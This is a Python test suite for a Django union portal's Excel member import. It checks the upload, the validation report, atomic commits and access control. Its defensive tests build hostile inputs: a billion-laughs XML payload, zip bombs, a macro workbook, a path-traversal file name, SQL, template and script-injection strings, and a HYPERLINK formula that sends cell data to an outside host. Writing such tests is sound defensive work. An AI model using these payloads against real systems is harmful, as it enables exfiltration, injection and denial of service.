"""Member import from Excel (security.md E, H4; ux.md "Import"): template, upload checks, the
row-by-row report, all-or-nothing commit, the Celery path, the command and who may do what."""

from __future__ import annotations

import io
import re
import time
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from auditlog.models import LogEntry
from django.conf import settings
from django.core.exceptions import PermissionDenied
from django.core.files.storage import default_storage
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from members import imports
from members.models import Member, MemberStatusChange, Role, WageBase
from members.spreadsheets import IMPORT_COLUMNS
from members.tasks import import_check_task, import_members_task
from members.validators import resident_id_check_char
from tests.factories import MemberFactory
from unionportal.core.models import FileJob, JobRun

from .excel_helpers import (
    HEADERS,
    UPLOAD,
    check_and_commit,
    errors_of,
    latest_job,
    person,
    post_file,
    private_storage,  # noqa: F401 (fixture)
    replace_in_zip,
    workbook_bytes,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_storage")]


# --- The template ------------------------------------------------------------------------


def test_the_template_has_chinese_headers_drop_downs_an_example_and_notes(city, chair_a, as_user):
    response = as_user(chair_a).get(reverse("members:import_template"))
    assert response.status_code == 200
    assert "filename*=UTF-8''" in response["Content-Disposition"]
    wb = load_workbook(io.BytesIO(response.content))
    ws = wb.worksheets[0]
    assert [c.value for c in ws[1]] == HEADERS
    assert ws["A2"].value.startswith("示例")
    lists = {str(dv.sqref)[0]: dv.formula1 for dv in ws.data_validations.dataValidation}
    assert "本科" in lists["D"] and "劳务派遣" in lists["E"]
    assert lists["F"] == '"是,否"' and "申请中" in lists["J"]
    assert ws.freeze_panes == "A2"
    notes = wb.worksheets[1]
    assert notes.title == "填写说明"
    assert {row[0] for row in notes.iter_rows(min_row=2, max_row=13, values_only=True)} >= set(
        HEADERS
    )


def test_the_filled_in_template_imports_and_its_example_row_is_skipped(city, chair_a, as_user):
    client = as_user(chair_a)
    wb = load_workbook(io.BytesIO(client.get(reverse("members:import_template")).content))
    ws = wb.worksheets[0]
    for n in range(3):
        row = person(n)
        ws.append([row[c.field] or None for c in IMPORT_COLUMNS])
    out = io.BytesIO()
    wb.save(out)
    job = check_and_commit(client, city.union_a, out.getvalue())
    assert job.status == FileJob.Status.DONE, job.error or job.result
    assert Member.objects.count() == 3
    assert not Member.objects.filter(name__startswith="示例").exists()


# --- A good file ---------------------------------------------------------------------------


def test_a_good_file_imports_every_row_with_its_history_and_one_audit_row(city, chair_a, as_user):
    rows = [person(n) for n in range(5)]
    rows[1].update(organisation="甲公司车间分会", wage_base="", status="申请中")
    rows[2].update(phone="+86 139-0000-0002", education="", is_migrant="是")
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))

    assert job.status == FileJob.Status.DONE
    assert job.result["created"] == 5
    members = {m.name: m for m in Member.objects.all()}
    assert len(members) == 5
    first = members["导入会员0"]
    assert first.resident_id == rows[0]["resident_id"]
    assert first.resident_id_cipher != rows[0]["resident_id"]  # encrypted at rest
    assert first.gender == "M" and first.birth_date == date(1960, 1, 3)
    assert first.wage_base == Decimal("4567.89") and first.organisation == city.union_a
    assert members["导入会员1"].organisation == city.branch_a
    assert members["导入会员1"].status == "applied"
    assert members["导入会员2"].phone == "13900000002" and members["导入会员2"].is_migrant
    assert MemberStatusChange.objects.count() == 5
    change = first.status_changes.get()
    assert (change.from_status, change.to_status, change.changed_on) == (
        "",
        "active",
        first.joined_on,
    )
    assert change.changed_by == chair_a and change.organisation == city.union_a
    assert WageBase.objects.count() == 4  # the row without a wage base has none
    wage = first.wage_bases.get()
    assert wage.effective_month == first.joined_on.replace(day=1)
    assert wage.amount == Decimal("4567.89")
    audit = LogEntry.objects.filter(additional_data__event="member.import")
    assert audit.count() == 1
    assert audit.get().additional_data["rows"] == 5 and audit.get().actor == chair_a
    assert not job.file  # the upload held full ID numbers: gone once imported


def test_reordered_headers_are_matched_by_their_text(city, chair_a, as_user):
    headers = list(reversed(HEADERS))
    headers[headers.index("农民工(是/否)")] = "农民工（是/否）"  # full-width brackets too
    job = check_and_commit(
        as_user(chair_a), city.union_a, workbook_bytes([person(1), person(2)], headers=headers)
    )
    assert job.status == FileJob.Status.DONE
    assert Member.objects.count() == 2


def test_optional_columns_may_be_left_out(city, chair_a, as_user):
    headers = ["姓名", "身份证号", "入会日期"]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes([person(1)], headers))
    assert job.status == FileJob.Status.DONE
    member = Member.objects.get()
    assert member.status == "active" and not member.is_migrant and member.wage_base == 0


# --- All or nothing ----------------------------------------------------------------------


def test_999_good_rows_and_a_bad_row_1000_import_nothing_and_the_report_names_row_1000(
    city, chair_a, as_user
):
    # Spreadsheet rows: the header is row 1, so the bad person sits on row 1000 with 998 good
    # rows above it and one more below.
    rows = [person(n) for n in range(1000)]
    rows[998]["resident_id"] = "110105194912310021"  # bad check digit
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes(rows))
    job = latest_job()
    assert job.result["rows"] == 1000 and job.result["bad_rows"] == 1
    assert [e[:2] for e in errors_of(job)] == [(1000, "身份证号")]

    page = client.get(reverse("members:import_preview", args=[job.pk])).content.decode()
    assert 'data-testid="import-confirm" disabled' in page
    assert 'data-row="1000" data-column="身份证号"' in page

    client.post(reverse("members:import_commit", args=[job.pk]))
    assert Member.objects.count() == 0
    assert not LogEntry.objects.filter(additional_data__event="member.import").exists()


def test_re_importing_the_same_file_creates_no_duplicates(city, chair_a, as_user):
    content = workbook_bytes([person(n) for n in range(3)])
    client = as_user(chair_a)
    check_and_commit(client, city.union_a, content)
    assert Member.objects.count() == 3

    job = check_and_commit(client, city.union_a, content)
    assert Member.objects.count() == 3
    assert job.status == FileJob.Status.PENDING and job.result["bad_rows"] == 3
    assert all("甲公司工会委员会" in message for _, _, message in errors_of(job))


def test_the_same_person_twice_in_the_file_is_an_error_on_both_rows(city, chair_a, as_user):
    twin = person(7)
    rows = [person(1), twin, person(2), dict(twin, name="另一个名字")]
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes(rows))
    errors = errors_of(latest_job())
    assert [(row, column) for row, column, _ in errors] == [(3, "身份证号"), (5, "身份证号")]
    assert "5" in errors[0][2] and "3" in errors[1][2]


def test_a_former_member_elsewhere_may_join_again(city, chair_a, as_user):
    MemberFactory(
        organisation=city.union_b, resident_id=person(4)["resident_id"], status="withdrawn"
    )
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes([person(4)]))
    assert job.status == FileJob.Status.DONE


def test_the_register_changing_after_the_preview_is_caught_at_confirmation(city, chair_a, as_user):
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes([person(1), person(2)]))
    job = latest_job()
    assert job.result["bad_rows"] == 0
    MemberFactory(organisation=city.union_b, resident_id=person(2)["resident_id"])
    client.post(reverse("members:import_commit", args=[job.pk]))
    job.refresh_from_db()
    assert Member.objects.filter(organisation=city.union_a).count() == 0
    assert job.status == FileJob.Status.PENDING and job.params["changed"]
    assert errors_of(job)[0][:2] == (3, "身份证号")


def test_a_clash_at_write_time_rolls_back_every_row(city, chair_a, as_user, monkeypatch):
    """The unique constraint is the last word (security.md H3): a person registered between
    the check and the insert makes the whole import fail, with no partial rows."""
    MemberFactory(organisation=city.union_b, resident_id=person(2)["resident_id"])
    monkeypatch.setattr(imports.validation, "_check_duplicates", lambda check, actor: None)
    client = as_user(chair_a)
    job = check_and_commit(client, city.union_a, workbook_bytes([person(1), person(2)]))
    assert job.status == FileJob.Status.FAILED
    assert Member.objects.filter(organisation=city.union_a).count() == 0
    assert MemberStatusChange.objects.count() == 0


def test_confirming_twice_imports_once(city, chair_a, as_user):
    client = as_user(chair_a)
    job = check_and_commit(client, city.union_a, workbook_bytes([person(1)]))
    response = client.post(reverse("members:import_commit", args=[job.pk]))
    assert response.status_code == 302
    assert Member.objects.count() == 1


# --- Checking the file itself (security.md E) ------------------------------------------------


def form_errors(response) -> str:
    assert response.status_code == 200
    return " ".join(str(e) for errors in response.context["form"].errors.values() for e in errors)


def test_an_oversized_file_is_a_form_error_not_a_500(city, chair_a, as_user):
    big = b"PK" + b"\0" * (10 * 1024 * 1024)
    response = post_file(as_user(chair_a), city.union_a, big)
    assert "5 MB" in form_errors(response)
    assert not FileJob.objects.exists()


def _cfb(extra: bytes = b"") -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + extra + b"\0" * 1024


@pytest.mark.parametrize(
    "content, code",
    [
        pytest.param(_cfb(), "xls", id="xls renamed"),
        pytest.param("姓名,身份证号\n张三,1\n".encode(), "not_xlsx", id="csv renamed"),
        pytest.param(b"", "empty", id="empty file"),
        pytest.param(_cfb("EncryptionInfo".encode("utf-16-le")), "encrypted", id="encrypted"),
    ],
)
def test_files_that_are_not_plain_workbooks_are_refused(city, chair_a, as_user, content, code):
    response = post_file(as_user(chair_a), city.union_a, content)
    assert response.status_code == 200
    assert response.context["form"].errors["file"].as_data()[0].code in (code, "required")
    assert not FileJob.objects.exists()


def test_a_macro_workbook_renamed_to_xlsx_is_refused(city, chair_a, as_user):
    content = workbook_bytes([person(1)])
    with zipfile.ZipFile(io.BytesIO(content)) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
        dst.writestr("xl/vbaProject.bin", b"\0" * 100)
    response = post_file(as_user(chair_a), city.union_a, out.getvalue())
    assert response.context["form"].errors["file"].as_data()[0].code == "macros"
    xlsm_type = replace_in_zip(
        content,
        "[Content_Types].xml",
        lambda xml: xml.replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml"),
    )
    response = post_file(as_user(chair_a), city.union_a, xlsm_type)
    assert response.context["form"].errors["file"].as_data()[0].code == "macros"


def test_a_zip_bomb_is_refused_before_anything_is_decompressed(city, chair_a, as_user, monkeypatch):
    content = workbook_bytes([person(1)])
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/media/zeros.bin", b"\0" * (20 * 1024 * 1024))  # ratio about 1,000
    bomb = out.getvalue()
    assert len(bomb) < 200_000

    def no_decompression(*args, **kwargs):
        raise AssertionError("a part was decompressed")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_decompression)
    response = post_file(as_user(chair_a), city.union_a, bomb)
    assert response.context["form"].errors["file"].as_data()[0].code == "zip_bomb"


def test_a_workbook_declaring_more_than_200_mb_is_refused(city, chair_a, as_user):
    """A zip whose central directory claims 300 MB for a part (the sizes are only read)."""
    content = bytearray(workbook_bytes([person(1)]))
    offset = content.find(b"PK\x01\x02")  # central directory entries
    while offset != -1:
        name_len = int.from_bytes(content[offset + 28 : offset + 30], "little")
        if content[offset + 46 : offset + 46 + name_len] == b"xl/worksheets/sheet1.xml":
            content[offset + 20 : offset + 24] = (3 * 1024 * 1024).to_bytes(4, "little")
            content[offset + 24 : offset + 28] = (300 * 1024 * 1024).to_bytes(4, "little")
        offset = content.find(b"PK\x01\x02", offset + 4)
    with zipfile.ZipFile(io.BytesIO(bytes(content))) as z:
        assert z.getinfo("xl/worksheets/sheet1.xml").file_size == 300 * 1024 * 1024
    response = post_file(as_user(chair_a), city.union_a, bytes(content))
    assert response.context["form"].errors["file"].as_data()[0].code == "zip_bomb"


def test_a_workbook_with_more_than_100_parts_is_refused(city, chair_a, as_user):
    out = io.BytesIO(workbook_bytes([person(1)]))
    with zipfile.ZipFile(out, "a") as z:
        for n in range(100):
            z.writestr(f"xl/media/p{n}.bin", b"x")
    response = post_file(as_user(chair_a), city.union_a, out.getvalue())
    assert response.context["form"].errors["file"].as_data()[0].code == "too_many_parts"


LAUGHS_DTD = (
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
)
SST_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"


def with_shared_strings(content: bytes, sst: bytes) -> bytes:
    """Add a sharedStrings part (openpyxl writes inline strings, Excel writes shared ones)."""
    content = replace_in_zip(
        content,
        "[Content_Types].xml",
        lambda xml: xml.replace(
            b"</Types>",
            b'<Override PartName="/xl/sharedStrings.xml" ContentType="' + SST_TYPE + b'"/></Types>',
        ),
    )
    out = io.BytesIO(content)
    with zipfile.ZipFile(out, "a") as z:
        z.writestr("xl/sharedStrings.xml", sst)
    return out.getvalue()


def refused_as_unreadable(response) -> bool:
    """A form error on the upload, or (when the bad part sits below the header row) a failed
    check on the job: never a 500, never a row written."""
    if response.status_code == 200:
        return response.context["form"].errors["file"].as_data()[0].code == "unreadable"
    job = latest_job()
    return job.status == FileJob.Status.FAILED and not Member.objects.exists()


def test_billion_laughs_in_the_shared_strings_is_a_form_error(city, chair_a, as_user):
    sst = (
        b'<?xml version="1.0"?>'
        + LAUGHS_DTD
        + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1"'
        b' uniqueCount="1"><si><t>&lol3;</t></si></sst>'
    )
    content = with_shared_strings(workbook_bytes([person(1)]), sst)
    response = post_file(as_user(chair_a), city.union_a, content)
    assert response.status_code == 200
    assert response.context["form"].errors["file"].as_data()[0].code == "unreadable"
    assert not FileJob.objects.exists()


def test_billion_laughs_in_the_sheet_is_refused(city, chair_a, as_user):
    def inject(xml: bytes) -> bytes:
        head, _, body = xml.partition(b"?>")
        body = body.replace("导入会员1".encode(), b"&lol3;")
        return head + b"?>" + LAUGHS_DTD + body

    content = replace_in_zip(workbook_bytes([person(1)]), "xl/worksheets/sheet1.xml", inject)
    assert refused_as_unreadable(post_file(as_user(chair_a), city.union_a, content))


def test_a_nul_character_in_the_xml_is_refused_without_a_500(city, chair_a, as_user):
    """XML cannot carry NUL: a file with one is unreadable (PostgreSQL would refuse it too)."""
    content = replace_in_zip(
        workbook_bytes([person(1)]),
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace("导入会员1".encode(), "导入&#0;会员1".encode()),
    )
    assert refused_as_unreadable(post_file(as_user(chair_a), city.union_a, content))


def test_a_missing_required_header_is_named(city, chair_a, as_user):
    headers = [h for h in HEADERS if h != "身份证号"]
    response = post_file(as_user(chair_a), city.union_a, workbook_bytes([person(1)], headers))
    assert "身份证号" in form_errors(response)


def test_extra_columns_are_refused_and_listed(city, chair_a, as_user):
    response = post_file(
        as_user(chair_a), city.union_a, workbook_bytes([person(1)], [*HEADERS, "备注"])
    )
    assert "备注" in form_errors(response)


def test_a_file_with_headers_but_no_rows_says_so(city, chair_a, as_user):
    post_file(as_user(chair_a), city.union_a, workbook_bytes([]))
    job = latest_job()
    assert job.status == FileJob.Status.FAILED and job.error


def test_more_rows_than_the_cap_are_refused(city, chair_a, as_user, monkeypatch):
    monkeypatch.setattr(imports.validation, "MAX_ROWS", 3)
    post_file(as_user(chair_a), city.union_a, workbook_bytes([person(n) for n in range(4)]))
    job = latest_job()
    assert job.status == FileJob.Status.FAILED and "3" in job.error


def test_the_stored_file_has_a_generated_name_in_private_storage(city, chair_a, as_user):
    content = workbook_bytes([person(1)])
    response = post_file(as_user(chair_a), city.union_a, content, "../../evil\r\nname.xlsx")
    assert response.status_code == 302
    name = latest_job().file.name
    assert re.fullmatch(r"jobs/\d{4}/\d{2}/[0-9a-f]{32}\.xlsx", name)
    assert Path(default_storage.path(name)).read_bytes() == content
    assert str(settings.PRIVATE_MEDIA_ROOT) not in str(settings.STATIC_ROOT)


# --- Hostile rows (security.md "Hostile inputs") -------------------------------------------

CASES = [
    # (what, overrides, column with an error or None when the row is accepted)
    ("bad check digit", {"resident_id": "110105194912310021"}, "身份证号"),
    ("lower-case x", {"resident_id": "11010519491231002x"}, None),
    ("15-digit number", {"resident_id": "110105491231002"}, None),
    ("30 February", {"resident_id": "110105199902300012"}, "身份证号"),
    ("region 000000", {"resident_id": "000000198506150011"}, "身份证号"),
    ("full-width digits", {"resident_id": "１１０１０５１９４９１２３１００２Ｘ"}, None),
    ("zero-width space", {"resident_id": "110105\u200b19491231002X"}, None),
    ("right-to-left override", {"name": "张\u202e三"}, "姓名"),
    ("middle dot", {"name": "阿依古丽·买买提"}, None),
    ("outside the BMP", {"name": "𠮷野家"}, None),
    ("10,000 characters", {"name": "长" * 10000}, "姓名"),
    ("template syntax", {"name": "{{7*7}}"}, None),
    ("SQL", {"name": "' OR 1=1--"}, None),
    ("joined in 2099", {"joined_on": date(2099, 1, 1)}, "入会日期"),
    ("joined before 1900", {"joined_on": "1899-12-31"}, "入会日期"),
    ("29 February 2023", {"joined_on": "2023-02-29"}, "入会日期"),
    ("month 13", {"joined_on": "2024/13/01"}, "入会日期"),
    ("a number in the date column", {"joined_on": 60}, "入会日期"),
    ("date as text", {"joined_on": "2024-03-01"}, None),
    ("negative wage", {"wage_base": -1}, "缴费工资基数"),
    ("zero wage", {"wage_base": 0}, None),
    ("1e309", {"wage_base": "1e309"}, "缴费工资基数"),
    ("NaN", {"wage_base": "NaN"}, "缴费工资基数"),
    ("Infinity", {"wage_base": "Infinity"}, "缴费工资基数"),
    ("three decimals", {"wage_base": "12.345"}, "缴费工资基数"),
    ("thousands separator", {"wage_base": "1,000"}, "缴费工资基数"),
    ("full-width amount", {"wage_base": "１０００"}, None),
    ("text amount", {"wage_base": "四千"}, "缴费工资基数"),
    ("10 to the 12th", {"wage_base": 10**12}, "缴费工资基数"),
    ("yes/no other than 是/否", {"is_migrant": "Y"}, "农民工(是/否)"),
    ("unknown education", {"education": "博士后"}, "学历"),
    ("status not for new members", {"status": "退会"}, "会员状态(正常/申请中)"),
    ("phone with +86", {"phone": "+86 139 0000 1234"}, None),
    ("bad phone", {"phone": "12345"}, "手机号"),
    ("unknown branch", {"organisation": "不存在的分会"}, "所属分会/小组"),
    ("another union's branch", {"organisation": "乙公司车间分会"}, "所属分会/小组"),
]


@pytest.mark.parametrize("what, overrides, bad_column", CASES, ids=[c[0] for c in CASES])
def test_hostile_rows(city, chair_a, as_user, what, overrides, bad_column):
    rows = [person(1), person(2, **overrides)]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))
    if bad_column is None:
        assert job.status == FileJob.Status.DONE, errors_of(job)
        assert Member.objects.count() == 2
    else:
        assert [(r, c) for r, c, _ in errors_of(job)] == [(3, bad_column)]
        assert Member.objects.count() == 0


def test_numbers_are_stored_normalised(city, chair_a, as_user):
    old = "420503850615001"  # 15 digits: born 1985-06-15
    new = "42050319850615001" + resident_id_check_char("42050319850615001")
    rows = [
        person(1, resident_id="11010519491231002x"),
        person(2, resident_id=old),
        person(3, resident_id=" ４２０５０３ １９９００１０１ ００１２"),
    ]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))
    assert job.status == FileJob.Status.DONE, errors_of(job)
    numbers = {m.name: m.resident_id for m in Member.objects.all()}
    assert numbers == {
        "导入会员1": "11010519491231002X",
        "导入会员2": new,
        "导入会员3": "420503199001010012",
    }


def test_a_formula_cell_is_a_row_error(city, chair_a, as_user):
    rows = [person(1), person(2, name='=HYPERLINK("http://x/?"&B1,"点击")')]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))
    assert [(r, c) for r, c, _ in errors_of(job)] == [(3, "姓名")]
    assert Member.objects.count() == 0


def test_a_formula_in_the_id_column_is_a_row_error(city, chair_a, as_user):
    rows = [person(1, resident_id="=A1&B1")]
    job = check_and_commit(as_user(chair_a), city.union_a, workbook_bytes(rows))
    assert [(r, c) for r, c, _ in errors_of(job)] == [(2, "身份证号")]


def test_a_nul_or_control_character_in_a_name_is_refused_by_the_form(city):
    """A file cannot carry NUL (see above); the form refuses it anyway, should a reader ever
    pass one through, so it never reaches PostgreSQL."""
    validator = imports.rows._RowValidator(imports.rows._Context(city.union_a))
    data = {
        "organisation": city.union_a.pk,
        "name": "张\x00三",
        "resident_id": "11010519491231002X",
        "joined_on": date(2024, 1, 1),
        "status": "active",
    }
    cleaned, errors = validator.validate(data)
    assert cleaned is None and "name" in errors
    cleaned, errors = validator.validate({**data, "name": "张三"})
    assert errors == {} and cleaned["name"] == "张三"


def test_the_preview_masks_numbers_and_escapes_names(city, chair_a, as_user):
    rows = [person(1, name="<script>alert(1)</script>"), person(2, resident_id="bad")]
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes(rows))
    job = latest_job()
    page = client.get(reverse("members:import_preview", args=[job.pk])).content.decode()
    assert rows[0]["resident_id"] not in page and rows[0]["phone"] not in page
    assert "<script>alert" not in page
    assert 'data-testid="bad-cell"' in page
    stored = str(job.result)
    assert rows[0]["resident_id"] not in stored and rows[0]["phone"] not in stored


# --- Large files go through Celery -----------------------------------------------------------


def test_a_large_file_is_checked_and_imported_in_celery_tasks(
    city, chair_a, as_user, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(imports.jobs, "INLINE_ROWS", 2)
    client = as_user(chair_a)
    with django_capture_on_commit_callbacks(execute=True):
        post_file(client, city.union_a, workbook_bytes([person(n) for n in range(5)]))
    job = latest_job()
    assert job.params["stage"] == "checked" and job.result["good_rows"] == 5
    with django_capture_on_commit_callbacks(execute=True) as callbacks:
        client.post(reverse("members:import_commit", args=[job.pk]))
    assert len(callbacks) == 1
    job.refresh_from_db()
    assert job.status == FileJob.Status.DONE and job.done == job.total == 5
    assert Member.objects.count() == 5
    assert set(JobRun.objects.values_list("task", flat=True)) == {
        "members.import_check",
        "members.import",
    }


def test_the_import_task_refuses_an_actor_who_lost_the_right(city, chair_a, as_user, monkeypatch):
    monkeypatch.setattr(imports.jobs, "INLINE_ROWS", 2)
    client = as_user(chair_a)
    post_file(client, city.union_a, workbook_bytes([person(n) for n in range(3)]))
    job = latest_job()
    import_check_task(job.pk, chair_a.pk)
    job.refresh_from_db()
    job.mark(FileJob.Status.RUNNING, params={**job.params, "stage": "importing"})
    Role.objects.filter(user=chair_a).update(active_to=date(2024, 6, 1))
    with pytest.raises(PermissionDenied):
        import_members_task(job.pk, chair_a.pk)
    job.refresh_from_db()
    assert job.status == FileJob.Status.FAILED
    assert Member.objects.count() == 0


def test_the_import_task_refuses_someone_other_than_the_uploader(city, chair_a, chair_b, as_user):
    job = FileJob.objects.create(
        kind="import",
        name="members.import",
        created_by=chair_a,
        organisation=city.union_a,
        params={"stage": "importing"},
    )
    with pytest.raises(PermissionDenied):
        import_members_task(job.pk, chair_b.pk)


# --- The management command -----------------------------------------------------------------


def test_the_command_prints_the_report_and_exits_non_zero_committing_nothing(
    city, tmp_path, capsys
):
    path = tmp_path / "members.xlsx"
    path.write_bytes(
        workbook_bytes([person(1), person(2, resident_id="110105194912310021"), person(3)])
    )
    with pytest.raises(CommandError) as raised:
        call_command("import_members", str(path), "--union", str(city.union_a.pk))
    assert raised.value.returncode == 1
    out = capsys.readouterr().out
    assert "3\t身份证号\t" in out
    assert Member.objects.count() == 0


def test_the_command_imports_a_good_file_as_the_system(city, tmp_path, capsys):
    path = tmp_path / "members.xlsx"
    path.write_bytes(workbook_bytes([person(1), person(2)]))
    call_command("import_members", str(path), "--union", city.union_a.uscc)
    assert "2 members imported" in capsys.readouterr().out
    assert Member.objects.count() == 2
    audit = LogEntry.objects.get(additional_data__event="member.import")
    assert audit.actor is None


def test_the_command_refuses_an_unknown_union_or_a_bad_file(city, tmp_path):
    path = tmp_path / "members.xlsx"
    path.write_bytes(b"not a workbook")
    with pytest.raises(CommandError):
        call_command("import_members", str(path), "--union", "999999")
    with pytest.raises(CommandError):
        call_command("import_members", str(path), "--union", str(city.union_a.pk))


# --- Who may do what ------------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["chair_a", "officer_a", "county_user", "admin_user"])
def test_the_import_pages_open_for_everyone_who_edits_members(request, city, as_user, persona):
    client = as_user(request.getfixturevalue(persona))
    assert client.get(UPLOAD).status_code == 200
    assert client.get(reverse("members:import_template")).status_code == 200


def test_the_auditor_may_not_import(city, auditor_user, as_user):
    client = as_user(auditor_user)
    assert client.get(UPLOAD).status_code == 403
    assert client.get(reverse("members:import_template")).status_code == 403


def test_a_chair_cannot_import_into_another_union(city, chair_a, as_user):
    response = post_file(as_user(chair_a), city.union_b, workbook_bytes([person(1)]))
    assert "union" in response.context["form"].errors
    assert not FileJob.objects.exists()


def test_only_the_uploader_sees_the_preview_and_confirms(
    city, chair_a, officer_a, chair_b, as_user
):
    post_file(as_user(chair_a), city.union_a, workbook_bytes([person(1)]))
    job = latest_job()
    preview = reverse("members:import_preview", args=[job.pk])
    commit = reverse("members:import_commit", args=[job.pk])
    assert as_user(chair_a).get(preview).status_code == 200
    for other in (officer_a, chair_b):
        assert as_user(other).get(preview).status_code == 404
        assert as_user(other).post(commit).status_code == 404
    assert as_user(chair_a).get(commit).status_code == 405
    assert Member.objects.count() == 0


def test_the_upload_is_protected_against_csrf(city, chair_a):
    client = Client(enforce_csrf_checks=True)
    client.force_login(chair_a)
    session = client.session
    session["login_at"] = time.time()
    session.save()
    response = post_file(client, city.union_a, workbook_bytes([person(1)]))
    assert response.status_code == 403
    assert not FileJob.objects.exists()


def test_a_hidden_sheet_is_never_imported_unseen(city, chair_a, as_user):
    content = workbook_bytes([person(1)])
    wb = load_workbook(io.BytesIO(content))
    hidden = wb.create_sheet("隐藏", 0)
    hidden.append(HEADERS)
    hidden.append([person(2)[c.field] or None for c in IMPORT_COLUMNS])
    hidden.sheet_state = "hidden"
    out = io.BytesIO()
    wb.save(out)
    job = check_and_commit(as_user(chair_a), city.union_a, out.getvalue())
    assert job.status == FileJob.Status.DONE
    assert list(Member.objects.values_list("name", flat=True)) == ["导入会员1"]
